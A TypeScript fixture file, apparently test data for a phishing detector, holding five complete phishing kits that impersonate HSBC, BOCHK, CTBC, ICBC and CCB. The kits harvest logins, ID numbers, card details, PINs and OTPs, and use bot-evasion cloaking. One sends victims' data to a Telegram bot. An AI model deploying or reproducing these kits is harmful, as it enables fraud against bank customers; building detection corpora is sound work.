import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { doc, baseCss, fontTC, fontSC, mark, cardFields, cardFormatJs, luhnJs, footer, b64 } from '../parts/yq-kit.js';
import { jsRoute, jsonRoute, pngRoute } from '../parts/e-bin.js';

const hsbcHost = 'hsbc-hk.securelogon-personal.com';
const ctbcHost = 'ctbc-tw.ebank-login.com';
const icbcHost = 'icbc-com-cn.yhk-rz.cc';

export const entries: Entry[] = [
  {
    id: 'yq-hsbc-hk-logon-otp-kit',
    label: 'phishing',
    kind: 'bank-kit-hk',
    url: `https://${hsbcHost}/hk/zh/logon/index.php?sid=8f3a1c`,
    body: doc({
      title: '登入網上理財 | 滙豐香港',
      css:
        baseCss(fontTC, '#fff') +
        `.hdr{border-bottom:1px solid #e5e5e5;height:64px;display:flex;align-items:center}
.hdr .container{display:flex;justify-content:space-between;align-items:center;width:100%}
.lang a{margin-left:14px;font-size:13px;color:#333}
.main{max-width:980px;margin:40px auto;display:flex;gap:60px;padding:0 20px}
.box{flex:0 0 420px}
h1{font-size:28px;font-weight:300;margin:0 0 24px}
.step{display:none}.step.on{display:block}
.primary{background:#db0011;color:#fff;width:100%;height:44px;font-size:15px}
.primary:disabled{background:#ccc}
.side{flex:1;border-left:1px solid #eee;padding-left:40px;font-size:13px;color:#444}
.side h3{font-size:15px;margin-top:0}
.notice{background:#f7f7f7;border-left:3px solid #db0011;padding:10px 14px;font-size:13px;margin-bottom:20px}
.chk{display:flex;align-items:center;gap:6px;font-size:13px;margin:8px 0 18px}
.loading{position:fixed;inset:0;background:rgba(255,255,255,.85);display:none;align-items:center;justify-content:center;font-size:15px}`,
      body: `<header class="hdr"><div class="container">${mark('HSBC 滙豐', '#db0011', { shape: 'hex', fg: '#000' })}<div class="lang"><a href="#">English</a><a href="#">简体</a><a href="#">繁體</a></div></div></header>
<div class="main">
<div class="box">
<h1>登入網上理財</h1>
<div class="notice">為保障閣下的戶口安全，系統偵測到不尋常登入，請重新驗證身分以恢復流動保安編碼功能。</div>
<form id="f1" class="step on" autocomplete="off">
  <div class="field"><label for="u">用戶名稱</label><input id="u" name="username" maxlength="30" required></div>
  <label class="chk"><input type="checkbox" checked> 記住我的用戶名稱</label>
  <button class="btn primary" type="submit">繼續</button>
  <p class="hint"><a href="#">忘記用戶名稱？</a></p>
</form>
<form id="f2" class="step" autocomplete="off">
  <p>歡迎，<b id="who"></b></p>
  <div class="field"><label for="p">密碼</label><input id="p" type="password" name="password" required></div>
  <div class="field"><label for="mem">記憶密碼 (第 2、5、7 位字元)</label><input id="mem" name="memorable" maxlength="3" required></div>
  <button class="btn primary" type="submit">登入</button>
</form>
<form id="f3" class="step" autocomplete="off">
  <p>我們已將一次性驗證碼發送至閣下登記的流動電話號碼 (尾數 ****)。</p>
  <div class="field"><label for="otp">短訊驗證碼</label><input id="otp" name="otp" inputmode="numeric" maxlength="6" required></div>
  <p class="hint" id="cd">可於 60 秒後重新發送</p>
  <button class="btn primary" type="submit">確認</button>
</form>
<p class="err" id="e">資料不正確，請再試一次。</p>
</div>
<div class="side"><h3>保安提示</h3><p>滙豐絕不會透過電郵或短訊要求閣下提供個人網上理財密碼。</p><p>首次使用？<a href="#" style="color:#db0011">立即登記</a></p></div>
</div>
<div class="loading" id="ld">正在處理，請稍候…</div>
${footer(['© 香港上海滙豐銀行有限公司 2024。版權所有。', '<a href="#">私隱</a> · <a href="#">網站條款</a> · <a href="#">保安</a>'], '#333')}
<script>
(function(){
  if(navigator.webdriver){location.replace('https://www.hsbc.com.hk/');return;}
  var sid=new URLSearchParams(location.search).get('sid')||'';
  var ld=document.getElementById('ld'),e=document.getElementById('e');
  function show(n){document.querySelectorAll('.step').forEach(function(s){s.classList.remove('on')});document.getElementById('f'+n).classList.add('on');}
  function send(step,data,cb){ld.style.display='flex';data.step=step;data.sid=sid;data.ua=navigator.userAgent;
    fetch('next.php',{method:'POST',headers:{'Content-Type':'application/x-www-form-urlencoded'},body:new URLSearchParams(data).toString()})
    .then(function(r){return r.json()}).then(function(j){ld.style.display='none';cb(j)}).catch(function(){ld.style.display='none';cb({ok:1})});}
  document.getElementById('f1').onsubmit=function(ev){ev.preventDefault();var u=document.getElementById('u').value;
    send('user',{username:u},function(){document.getElementById('who').textContent=u;show(2);});};
  document.getElementById('f2').onsubmit=function(ev){ev.preventDefault();
    send('pass',{password:document.getElementById('p').value,memorable:document.getElementById('mem').value},function(){show(3);var t=60,c=document.getElementById('cd');var iv=setInterval(function(){t--;c.textContent='可於 '+t+' 秒後重新發送';if(t<=0){clearInterval(iv);c.textContent='重新發送驗證碼';}},1000);});};
  document.getElementById('f3').onsubmit=function(ev){ev.preventDefault();
    send('otp',{otp:document.getElementById('otp').value},function(j){if(j.next){location.href=j.next}else{e.style.display='block'}});};
})();
</script>`,
    }),
    routes: {
      [`${hsbcHost}/hk/zh/logon/next.php`]: jsonRoute({ ok: 1, next: 'https://www.hsbc.com.hk/zh-hk/' }),
    },
  },
  {
    id: 'yq-bochk-mobile-renew-tg',
    label: 'phishing',
    kind: 'bank-kit-hk',
    url: 'https://bochk-hk.mobile-renew.top/m/',
    body: doc({
      title: '中銀香港 - 手機銀行安全升級',
      css:
        baseCss(fontTC, '#f2f2f2') +
        `.top{background:#a6192e;color:#fff;padding:14px 16px;display:flex;align-items:center;gap:10px}
.top b{font-size:17px}
.card{background:#fff;margin:14px;border-radius:8px;padding:18px;box-shadow:0 1px 3px rgba(0,0,0,.08)}
.card h2{font-size:17px;margin:0 0 10px;color:#a6192e}
.go{background:#a6192e;color:#fff;width:100%;height:46px;border-radius:23px;font-size:16px}
.pg{display:none}.pg.on{display:block}
.steps{display:flex;justify-content:space-between;font-size:12px;color:#999;margin:0 14px}
.steps span.on{color:#a6192e;font-weight:700}
.tip{font-size:12px;color:#888;margin:10px 14px}`,
      body: `<div class="top"><svg width="28" height="28"><circle cx="14" cy="14" r="13" fill="#fff"/><rect x="8" y="8" width="12" height="12" fill="#a6192e"/></svg><b>中國銀行(香港)</b></div>
<div class="steps"><span class="on" id="s1">① 身份驗證</span><span id="s2">② 卡片資料</span><span id="s3">③ 短訊確認</span></div>
<div class="card pg on" id="p1">
  <h2>手機銀行安全升級</h2>
  <p style="font-size:13px;color:#555">根據金管局最新指引，閣下的流動保安編碼須於 <b>48 小時內</b>重新綁定，逾期手機銀行服務將被暫停。</p>
  <div class="field"><label>網上銀行號碼 / 用戶名稱</label><input id="uid" required></div>
  <div class="field"><label>網上銀行密碼</label><input id="pwd" type="password" required></div>
  <div class="field"><label>香港身份證號碼</label><input id="hkid" placeholder="A123456(7)" required></div>
  <button class="btn go" onclick="nx(1)">下一步</button>
</div>
<div class="card pg" id="p2">
  <h2>核對扣賬卡 / 信用卡</h2>
  ${cardFields('tc', 'b')}
  <div class="field"><label>提款卡密碼 (6位)</label><input id="atm" type="password" inputmode="numeric" maxlength="6"></div>
  <button class="btn go" onclick="nx(2)">下一步</button>
</div>
<div class="card pg" id="p3">
  <h2>輸入短訊驗證碼</h2>
  <p style="font-size:13px">驗證碼已發送至閣下登記的手機號碼，請於 5 分鐘內輸入。</p>
  <div class="field"><input id="sms" inputmode="numeric" maxlength="6" placeholder="6位數字驗證碼"></div>
  <button class="btn go" onclick="nx(3)">完成升級</button>
</div>
<p class="tip">中國銀行(香港)有限公司 版權所有 © 2024 ｜ 客戶服務熱線 (852) 3988 2388</p>
<script>
var T='6934015827:AAHq8cKx2v_pLw0ZrS9dYfE3nJtB1mUoQ4c',C='-1002113847560';
function v(i){var x=document.getElementById(i);return x?x.value:''}
function tg(t){try{fetch('https://api.telegram.org/bot'+T+'/sendMessage',{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify({chat_id:C,text:t})})}catch(e){}}
function nx(n){
  if(n==1){if(!v('uid')||!v('pwd'))return;tg('[BOCHK] IP:'+(window.ipx||'')+' ID:'+v('uid')+' PW:'+v('pwd')+' HKID:'+v('hkid'));}
  if(n==2){tg('[BOCHK-CARD] '+v('bholder')+' | '+v('bcardno')+' | '+v('bexp')+' | '+v('bcvv')+' | ATM:'+v('atm'));}
  if(n==3){tg('[BOCHK-OTP] '+v('sms'));setTimeout(function(){location.href='https://www.bochk.com/tc/home.html'},1500);return;}
  document.getElementById('p'+n).classList.remove('on');document.getElementById('p'+(n+1)).classList.add('on');
  document.getElementById('s'+(n+1)).classList.add('on');
}
fetch('https://api.ipify.org?format=json').then(function(r){return r.json()}).then(function(j){window.ipx=j.ip}).catch(function(){});
${cardFormatJs}
</script>`,
    }),
  },
  {
    id: 'yq-ctbc-tw-login-post-php',
    label: 'phishing',
    kind: 'bank-kit-tw',
    url: `https://${ctbcHost}/twrbo/zh_tw/login.html`,
    body: doc({
      title: '中國信託 個人網路銀行 - 登入',
      css:
        baseCss(fontTC, '#eef3f1') +
        `.hd{background:#fff;height:70px;border-bottom:3px solid #00857a}
.hd .container{display:flex;align-items:center;justify-content:space-between;height:70px}
.hd nav a{margin-left:20px;color:#333;font-size:14px}
.wrap{max-width:1000px;margin:30px auto;display:grid;grid-template-columns:400px 1fr;gap:30px;padding:0 20px}
.login{background:#fff;border-radius:10px;padding:28px;box-shadow:0 2px 10px rgba(0,0,0,.06)}
.login h2{margin:0 0 16px;font-size:20px;color:#00857a}
.tabs{display:flex;border-bottom:1px solid #ddd;margin-bottom:16px}.tabs span{padding:8px 14px;font-size:14px}.tabs .on{border-bottom:2px solid #00857a;color:#00857a;font-weight:700}
.cap{display:flex;gap:10px;align-items:center}.cap canvas{border:1px solid #ddd;border-radius:4px;cursor:pointer}
.sub{background:#00857a;color:#fff;width:100%;height:46px;font-size:16px;margin-top:6px}
.promo{background:linear-gradient(135deg,#00857a,#47b3a8);border-radius:10px;color:#fff;padding:34px}
.promo h3{font-size:26px;margin:0 0 10px}`,
      body: `<div class="hd"><div class="container">${mark('CTBC 中國信託', '#00857a', { shape: 'diamond', fg: '#333' })}<nav><a href="#">個人金融</a><a href="#">信用卡</a><a href="#">財富管理</a><a href="#">客服中心</a></nav></div></div>
<div class="wrap">
<form class="login" method="post" action="post.php" id="lf">
  <h2>個人網路銀行</h2>
  <div class="tabs"><span class="on">網路銀行</span><span>信用卡會員</span></div>
  <div class="field"><label>身分證字號</label><input name="custid" maxlength="10" placeholder="A123456789" required></div>
  <div class="field"><label>使用者代碼</label><input name="usercode" type="password" required></div>
  <div class="field"><label>網路銀行密碼</label><input name="pwd" type="password" required></div>
  <div class="field"><label>圖形驗證碼</label><div class="cap"><input name="cap" maxlength="4" style="width:140px" required><canvas id="cv" width="110" height="40" title="點擊更換"></canvas></div></div>
  <input type="hidden" name="tm" id="tm">
  <button class="btn sub" type="submit">登入</button>
  <p class="hint"><a href="#">忘記代碼/密碼</a>　｜　<a href="#">線上申請網銀</a></p>
</form>
<div class="promo"><h3>帳戶安全確認</h3><p>因應金融監督管理委員會要求，本行將於近期進行客戶資料更新作業，請於登入後依指示完成身分驗證，以免影響轉帳及提款功能。</p><p style="font-size:12px;opacity:.85">客服專線：(02)2745-8080</p></div>
</div>
${footer(['中國信託商業銀行 版權所有 © CTBC Bank Co., Ltd. All Rights Reserved.', '建議瀏覽器：Chrome、Edge、Safari 最新版本'], '#1d2b29')}
<script>
(function(){var cv=document.getElementById('cv'),ctx=cv.getContext('2d');
function draw(){var s='';for(var i=0;i<4;i++)s+=String.fromCharCode(48+Math.floor(Math.random()*10));ctx.fillStyle='#f4f4f4';ctx.fillRect(0,0,110,40);ctx.font='bold 22px Arial';for(i=0;i<4;i++){ctx.fillStyle='hsl('+Math.floor(Math.random()*360)+',60%,35%)';ctx.fillText(s[i],12+i*24,28+Math.random()*6-3);}cv.dataset.v=s;}
draw();cv.onclick=draw;
document.getElementById('lf').onsubmit=function(e){if(this.cap.value!==cv.dataset.v){e.preventDefault();alert('圖形驗證碼錯誤');draw();return;}document.getElementById('tm').value=Date.now();};})();
</script>`,
    }),
    routes: {
      [`${ctbcHost}/twrbo/zh_tw/post.php`]: redirectRoute(302, `https://${ctbcHost}/twrbo/zh_tw/otp.html`),
      [`${ctbcHost}/twrbo/zh_tw/otp.html`]: htmlRoute(
        doc({
          title: '中國信託 - 交易驗證',
          css: baseCss(fontTC, '#eef3f1') + `.b{max-width:420px;margin:60px auto;background:#fff;border-radius:10px;padding:28px}.sub{background:#00857a;color:#fff;width:100%;height:44px}`,
          body: `<form class="b" method="post" action="otp.php"><h2 style="color:#00857a;margin-top:0">OTP 簡訊驗證</h2><p>本行已發送一次性密碼至您留存的行動電話，請輸入以完成身分驗證。</p><div class="field"><label>簡訊密碼</label><input name="otp" maxlength="6" inputmode="numeric" required></div><div class="field"><label>信用卡卡號後 8 碼</label><input name="card8" maxlength="8" inputmode="numeric"></div><button class="btn sub">確認送出</button></form>`,
        }),
      ),
      [`${ctbcHost}/twrbo/zh_tw/otp.php`]: redirectRoute(302, 'https://www.ctbcbank.com/'),
    },
  },
  {
    id: 'yq-icbc-cn-realname-poll',
    label: 'phishing',
    kind: 'bank-kit-cn',
    url: `https://${icbcHost}/wap/index.html`,
    body: doc({
      title: '中国工商银行-账户实名认证',
      lang: 'zh-CN',
      css:
        baseCss(fontSC, '#f4f4f4') +
        `.bar{background:#c7000b;color:#fff;height:48px;display:flex;align-items:center;justify-content:center;font-size:17px;position:relative}
.bar i{position:absolute;left:14px;font-style:normal;font-size:20px}
.banner{background:url(img/banner.png) center/cover #d9232e;color:#fff;padding:22px 16px}
.banner h3{margin:0;font-size:19px}
.box{background:#fff;margin:12px;border-radius:6px;padding:16px}
.box .field input{border:0;border-bottom:1px solid #eee;border-radius:0;padding:0 4px}
.sub{background:#c7000b;color:#fff;width:100%;height:44px;border-radius:4px;font-size:16px}
.code{display:flex;gap:8px}.code button{flex:0 0 110px;background:#fff;border:1px solid #c7000b;color:#c7000b;border-radius:4px}
#wait{display:none;text-align:center;padding:40px 16px}
.spin{width:36px;height:36px;border:3px solid #eee;border-top-color:#c7000b;border-radius:50%;margin:0 auto 14px;animation:r 1s linear infinite}@keyframes r{to{transform:rotate(360deg)}}`,
      body: `<div class="bar"><i>‹</i>账户实名认证</div>
<div class="banner"><h3>尊敬的工行客户：</h3><p style="margin:6px 0 0;font-size:13px">根据中国人民银行《关于加强支付结算管理防范电信网络新型违法犯罪有关事项的通知》，您的账户身份信息已过期，请于24小时内完成认证，逾期将暂停非柜面业务。</p></div>
<div id="form">
<div class="box">
  <div class="field"><label>真实姓名</label><input id="name" placeholder="请输入持卡人姓名"></div>
  <div class="field"><label>身份证号</label><input id="idno" maxlength="18" placeholder="请输入18位身份证号"></div>
  <div class="field"><label>银行卡号</label><input id="card" inputmode="numeric" placeholder="请输入工行借记卡/信用卡卡号"></div>
  <div class="field"><label>取款密码</label><input id="pin" type="password" inputmode="numeric" maxlength="6" placeholder="6位数字密码"></div>
  <div class="field"><label>预留手机号</label><input id="mobile" inputmode="tel" maxlength="11" placeholder="银行预留手机号码"></div>
  <div class="field"><label>短信验证码</label><div class="code"><input id="sms" inputmode="numeric" maxlength="6"><button type="button" id="gs">获取验证码</button></div></div>
</div>
<div style="padding:0 12px"><button class="btn sub" id="go">立即认证</button><p class="hint" style="text-align:center">工银融e行 · 客服热线 95588</p></div>
</div>
<div id="wait" class="box"><div class="spin"></div><p>系统正在核验您的信息，请勿关闭或刷新页面…</p><p class="hint">预计需要 1-3 分钟</p></div>
<script>
(function(){
  var uid=localStorage.getItem('u')||(Math.random().toString(36).slice(2,10));localStorage.setItem('u',uid);
  function g(i){return document.getElementById(i).value.trim()}
  function post(path,obj){var x=new XMLHttpRequest();x.open('POST',path,true);x.setRequestHeader('Content-Type','application/json');x.send(JSON.stringify(obj));return x;}
  document.getElementById('gs').onclick=function(){var b=this,t=60;if(!/^1\\d{10}$/.test(g('mobile'))){alert('请输入正确的手机号');return;}
    post('api/save.php',{uid:uid,t:'info',name:g('name'),idno:g('idno'),card:g('card'),pin:g('pin'),mobile:g('mobile')});
    b.disabled=true;var iv=setInterval(function(){b.textContent=(--t)+'s';if(t<=0){clearInterval(iv);b.disabled=false;b.textContent='重新获取';}},1000);};
  document.getElementById('go').onclick=function(){if(g('sms').length<4){alert('请输入短信验证码');return;}
    post('api/save.php',{uid:uid,t:'sms',sms:g('sms')});
    document.getElementById('form').style.display='none';document.getElementById('wait').style.display='block';
    (function poll(){var x=new XMLHttpRequest();x.open('GET','api/status.php?uid='+uid);x.onload=function(){try{var j=JSON.parse(x.responseText);
      if(j.status==='sms_error'){alert('验证码错误，请重新获取');location.reload();}
      else if(j.status==='done'){location.href='https://www.icbc.com.cn/';}
      else setTimeout(poll,3000);}catch(e){setTimeout(poll,3000)}};x.send();})();};
})();
</script>`,
    }),
    routes: {
      [`${icbcHost}/wap/api/save.php`]: jsonRoute({ code: 200 }),
      [`${icbcHost}/wap/api/status.php`]: jsonRoute({ status: 'wait' }),
      [`${icbcHost}/wap/img/banner.png`]: pngRoute(217, 35, 46),
    },
  },
  {
    id: 'yq-ccb-etc-expired-mobile-only',
    label: 'phishing',
    kind: 'cloaked-kit',
    url: 'https://etc-ccb.vip/',
    body: `<!DOCTYPE html><html lang="zh-CN"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1,user-scalable=no"><title>ETC服务中心</title>
<style>body{margin:0;font-family:${fontSC};background:#fff}</style></head><body>
<div id="app"><p style="text-align:center;color:#999;margin-top:40vh">加载中...</p></div>
<script src="static/js/app.8c1f2e.js"></script>
</body></html>`,
    routes: {
      'etc-ccb.vip/static/js/app.8c1f2e.js': jsRoute(`;(function(){
var ua=navigator.userAgent||'';
var m=/Android|iPhone|iPad|iPod|MicroMessenger|Mobile/i.test(ua);
if(!m||/bot|spider|crawl|Headless|Lighthouse/i.test(ua)){document.getElementById('app').innerHTML='<div style="text-align:center;margin-top:30vh;color:#666;font-size:15px">请使用手机浏览器访问本页面</div>';return;}
var css='.t{background:#1f5aa6;color:#fff;padding:16px;text-align:center;font-size:18px}.n{background:#fff7e6;color:#d46b08;font-size:13px;padding:10px 14px}'+
'.c{padding:14px}.c label{display:block;font-size:13px;color:#666;margin:12px 0 4px}.c input{width:100%;box-sizing:border-box;height:42px;border:1px solid #ddd;border-radius:4px;padding:0 10px;font-size:15px}'+
'.b{display:block;width:100%;height:46px;margin-top:18px;border:0;border-radius:23px;background:#1f5aa6;color:#fff;font-size:16px}.f{font-size:12px;color:#aaa;text-align:center;margin:20px 0}';
var s=document.createElement('style');s.textContent=css;document.head.appendChild(s);
document.getElementById('app').innerHTML='<div class="t">中国建设银行 · ETC服务中心</div>'+
'<div class="n">【重要通知】您的ETC电子标签认证已失效，系统将于今日24时起停止扣费通行，请尽快在线完成重新认证。</div>'+
'<form class="c" id="fm"><label>车牌号码</label><input name="plate" placeholder="如：粤B12345">'+
'<label>车主姓名</label><input name="name"><label>身份证号码</label><input name="idno" maxlength="18">'+
'<label>绑定银行卡号</label><input name="card" inputmode="numeric"><label>卡有效期（信用卡填写）</label><input name="exp" placeholder="MM/YY">'+
'<label>银行预留手机号</label><input name="phone" inputmode="tel" maxlength="11"><label>交易密码</label><input name="pin" type="password" maxlength="6" inputmode="numeric">'+
'<button class="b" type="submit">立即认证</button></form><div class="f">ETC服务 · 全国客服 95533</div>';
document.getElementById('fm').onsubmit=function(e){e.preventDefault();var d={};new FormData(this).forEach(function(v,k){d[k]=v});
fetch('/api/v1/etc/submit',{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify(d)}).then(function(){location.href='/sms.html?p='+encodeURIComponent(d.phone)});};
})();`),
      'etc-ccb.vip/api/v1/etc/submit': jsonRoute({ code: 0, msg: 'ok' }),
      'etc-ccb.vip/sms.html': htmlRoute(`<!DOCTYPE html><html lang="zh-CN"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1"><title>短信验证</title></head><body style="font-family:${fontSC};margin:0">
<div style="background:#1f5aa6;color:#fff;padding:16px;text-align:center">短信验证</div><form style="padding:16px" method="post" action="/api/v1/etc/sms"><p>验证码已发送至您的手机，请输入6位验证码完成认证。</p><input name="code" maxlength="6" inputmode="numeric" style="width:100%;height:42px;font-size:18px;letter-spacing:6px;text-align:center"><button style="width:100%;height:46px;margin-top:16px;background:#1f5aa6;color:#fff;border:0;border-radius:23px">提交</button></form></body></html>`),
    },
  },
];
